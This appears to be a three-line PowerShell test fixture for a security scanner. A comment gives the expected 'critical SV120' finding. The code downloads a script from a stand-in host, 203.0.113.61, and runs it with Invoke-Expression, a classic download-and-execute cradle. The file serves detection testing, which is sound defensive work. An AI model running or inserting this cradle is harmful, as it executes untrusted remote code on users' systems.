$client = New-Object System.Net.WebClient
$payload = $client.DownloadString('http://203.0.113.61/p.ps1') # want "critical SV120: .*203[.]0[.]113[.]61.*payload.*Invoke-Expression"
Invoke-Expression $payload
